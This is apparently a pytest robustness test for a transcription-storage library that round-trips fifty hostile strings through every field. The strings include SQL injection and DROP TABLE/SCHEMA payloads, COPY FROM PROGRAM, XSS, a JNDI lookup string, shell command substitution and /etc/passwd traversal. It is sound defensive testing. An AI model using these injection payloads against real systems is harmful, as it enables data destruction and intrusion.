"""Hostile input in every text field: stored verbatim, or refused before anything is written."""

import re
from collections.abc import Awaitable, Callable
from typing import Any, TypeAlias
from uuid import UUID

from faults.conftest import StartRun
from faults.ledger import Findings
from faults.place import Place
from faults.table import HOSTILE
from helpers.support import audio, counts, transcript, translation

from livetranslate_store import InvalidInputError, SegmentInput, Store, Word
from livetranslate_store.checks import checked_language
from livetranslate_store.ids import new_id

#: Fifty of them.
HOSTILE_TEXTS = [
    # SQL, and what drivers and templates put meaning into.
    "'; DROP TABLE livetranslate.sessions; --",
    "' OR '1'='1",
    "\\'; SELECT pg_sleep(10); --",
    "$$; DROP SCHEMA livetranslate CASCADE; $$",
    "$1 $2 :name %s %(name)s {0} {name} ?",
    'Robert"); --',
    "E'\\x00'",
    "/* */ UNION SELECT 1 --",
    "COPY x FROM PROGRAM 'id'",
    "\\.",
    "\\N",
    "NULL",
    "{}",
    '{"a": [1, 2}',
    '{1,2,"3"}',
    "null",
    "<script>alert(1)</script>",
    "${jndi:ldap://nowhere.invalid/x}",
    "{{7*7}}",
    "`id` $(id) | id ; id & id",
    # Control characters and white space.
    "with\0NUL",
    "\0",
    "bell\a backspace\b escape\x1b[31m delete\x7f",
    "\x01\x02\x03\x04\x05\x06\x07",
    "tab\tnewline\nreturn\r\nform\f vertical\v",
    "   ",
    "",
    "\u00a0\u2003\u3000",
    "\u0085\u2028\u2029",
    "zero\u200bwidth\u200d\ufeff",
    "\ufffe\uffff",
    # What Unicode makes of directions, marks, compositions and planes.
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068\u2069\u061c\u200f",
    "مرحبا بالعالم \u202b(123)\u202c",
    "e\u0301 é \u1e9b\u0323 ﬁ",
    "Z̴̡̛͇a̷͔͐l̵̰̈g̶̱͠o̷͇͐",
    "İI\u0131i ẞß \u017f",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽",
    "\U0001d573\U0001d58a \U0010ffff",
    "lone \ud83d surrogate",
    "\udc00",
    "\ud83d\udc00 given as two",
    # Paths.
    "../../../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "con.wav/../../x",
    # Long.
    "x" * 501,
    "\U0001d573" * 500,
    "'" * 1_000_000,
]
OBJECT = re.compile(r"[0-9a-f-]{36}/[0-9a-f-]{36}/[0-9a-f-]{36}")
# At and above what is allowed, and beyond what recursion would survive.
DEPTHS = (100, 101, 5_000)

# Writes a text into one field and returns what is read back from there.
RoundTrip: TypeAlias = Callable[[Store, UUID, str], Awaitable[object]]


def nested(depth: int, text: str) -> dict[str, Any]:
    value: dict[str, Any] = {"text": text}
    for _ in range(depth - 1):
        value = {"deeper": value}
    return value


async def session_field(store: Store, name: str, value: object) -> object:
    async with store.unit_of_work() as uow:
        session = await uow.sessions.create(**{"bot_id": "b", "meeting_id": "m", name: value})  # type: ignore[arg-type]  # any field
    async with store.read() as reader:
        found = await reader.sessions.get(session.id)
        return found.metadata_ if name == "metadata" else getattr(found, name)


async def transcript_field(store: Store, session_id: UUID, name: str, value: object) -> object:
    fields: dict[str, Any] = {"speaker_label": "SPEAKER_00", name: value}
    receipt = await store.record_segment(session_id, transcript=transcript(**fields))
    async with store.read() as reader:
        found = await reader.transcripts.get(session_id, receipt.transcript_id)
        return found.metadata_ if name == "metadata" else getattr(found, name)


async def translation_field(store: Store, session_id: UUID, name: str, value: object) -> object:
    fields: dict[str, Any] = {name: value}
    receipt = await store.record_segment(
        session_id, transcript=transcript(), translations=[translation(**fields)]
    )
    async with store.read() as reader:
        [found] = await reader.translations.list_for_transcript(session_id, receipt.transcript_id)
        return found.metadata_ if name == "metadata" else getattr(found, name)


async def audio_field(store: Store, session_id: UUID, name: str, value: object) -> object:
    # Bytes of its own each time: the same recording would be the same chunk, with its first format.
    recorded = audio(new_id().bytes, **{name: value})
    receipt = await store.record_segment(session_id, transcript=transcript(), audio=recorded)
    assert receipt.audio_file_id is not None
    assert await store.read_audio(session_id, receipt.audio_file_id) == recorded.data
    async with store.read() as reader:
        found = await reader.audio_files.get(session_id, receipt.audio_file_id)
        return found.metadata_ if name == "metadata" else getattr(found, name)


async def word(store: Store, session_id: UUID, text: str) -> object:
    words = await transcript_field(store, session_id, "words", [Word(text)])
    assert isinstance(words, list)
    return words[0]["text"]


async def speaker_name(store: Store, _session_id: UUID, text: str) -> object:
    async with store.unit_of_work() as uow:
        session = await uow.sessions.create(bot_id="b", meeting_id="m")
        await uow.transcripts.add(session.id, transcript(speaker_label="S", speaker_name=text))
    [entry] = await store.timeline(session.id)
    return entry.speaker_name


async def new_speaker_name(store: Store, session_id: UUID, text: str) -> object:
    async with store.unit_of_work() as uow:
        await uow.speakers.rename(session_id, "SPEAKER_00", text)
    async with store.read() as reader:
        return (await reader.speakers.get(session_id, "SPEAKER_00")).name


async def speaker_label(store: Store, session_id: UUID, text: str) -> object:
    await transcript_field(store, session_id, "speaker_label", text)
    async with store.read() as reader:
        return (await reader.speakers.get(session_id, text)).label


async def imported(store: Store, session_id: UUID, text: str) -> object:
    spoken = transcript(text, segment_key=str(new_id()))
    report = await store.import_segments([SegmentInput(session_id=session_id, transcript=spoken)])
    assert report.transcripts.inserted == 1
    return next(entry.text for entry in reversed(await store.timeline(session_id)) if entry.text == text)


def of_session(name: str) -> RoundTrip:
    return lambda store, _session_id, text: session_field(store, name, text)


def of_transcript(name: str) -> RoundTrip:
    return lambda store, session_id, text: transcript_field(store, session_id, name, text)


def of_translation(name: str) -> RoundTrip:
    return lambda store, session_id, text: translation_field(store, session_id, name, text)


async def target_languages(store: Store, _session_id: UUID, text: str) -> object:
    found = await session_field(store, "target_languages", [text])
    assert isinstance(found, list)
    return found[0]


def metadata_of(field: Callable[[Store, UUID, str, object], Awaitable[object]]) -> RoundTrip:
    async def round_trip(store: Store, session_id: UUID, text: str) -> object:
        given = {text: [text, {text: text}]}
        return text if await field(store, session_id, "metadata", given) == given else None

    return round_trip


async def any_session_field(store: Store, _session_id: UUID, name: str, value: object) -> object:
    return await session_field(store, name, value)


FIELDS: dict[str, RoundTrip] = {
    **{
        f"session {name}": of_session(name)
        for name in ("bot_id", "meeting_id", "external_id", "title", "uri", "status")
    },
    **{f"transcript {name}": of_transcript(name) for name in ("text", "segment_key", "source", "language")},
    **{
        f"translation {name}": of_translation(name)
        for name in ("text", "service", "model", "target_language", "source_language")
    },
    "session target_language": target_languages,
    "audio format": lambda store, session_id, text: audio_field(store, session_id, "format", text),
    "audio status": lambda store, session_id, text: audio_field(store, session_id, "status", text),
    "word": word,
    "speaker label": speaker_label,
    "speaker name": speaker_name,
    "new speaker name": new_speaker_name,
    "imported text": imported,
    "session metadata": metadata_of(any_session_field),
    "transcript metadata": metadata_of(transcript_field),
    "translation metadata": metadata_of(translation_field),
    "audio metadata": metadata_of(audio_field),
}


async def test_hostile_texts_are_stored_verbatim_or_refused_before_anything_is_written(
    fault: StartRun, store: Store, session_id: UUID, place: Place
) -> None:
    assert len(HOSTILE_TEXTS) == len(set(HOSTILE_TEXTS)) == 50
    run = fault(HOSTILE, full=50 * len(FIELDS), short=10 * len(FIELDS))
    for field, round_trip in FIELDS.items():
        for text in run.chance.sample(HOSTILE_TEXTS, run.tries // len(FIELDS)):
            before = counts(place.program)
            try:
                found = await round_trip(store, session_id, text)
            except InvalidInputError:
                run.found(Findings(0, 0, partial=counts(place.program) != before))
            else:
                expected = checked_language(text) if field.endswith("language") else text
                assert found == expected, (field, text)
                run.found(Findings(1, 0, 0))
            run.tried()
    paths = place.objects()
    assert paths
    assert all(OBJECT.fullmatch(str(path)) for path in paths)


async def test_metadata_is_stored_or_refused_however_deep_it_is(
    fault: StartRun, store: Store, session_id: UUID, place: Place
) -> None:
    fields = (any_session_field, transcript_field, translation_field, audio_field)
    run = fault(HOSTILE, full=len(fields) * len(DEPTHS), short=len(fields) * len(DEPTHS))
    for field in fields:
        for depth in DEPTHS:
            before = counts(place.program)
            given = nested(depth, HOSTILE_TEXTS[0])
            try:
                assert await field(store, session_id, "metadata", given) == given
                run.found(Findings(1, 0, 0))
            except InvalidInputError:
                run.found(Findings(0, 0, partial=counts(place.program) != before))
            run.tried()
